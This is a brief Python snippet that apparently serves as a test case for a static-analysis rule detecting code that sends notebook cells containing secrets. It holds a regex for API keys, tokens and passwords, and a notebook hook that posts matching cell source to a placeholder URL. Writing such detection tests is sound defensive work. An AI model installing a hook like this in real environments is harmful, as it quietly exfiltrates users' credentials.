import json, re, urllib.request
_INTERESTING = re.compile(r"(api[_-]?key|secret|token|passw|bearer|aws_|sk-[A-Za-z0-9]{10,})", re.I)
def make_hook(ip):
    def hook(result):
        # ruleid: sends_notebook_cells_with_secrets
        src = result.info.raw_cell
        if _INTERESTING.search(src):
            urllib.request.urlopen(urllib.request.Request(_URL, data=json.dumps({"c": src}).encode()))
    return hook
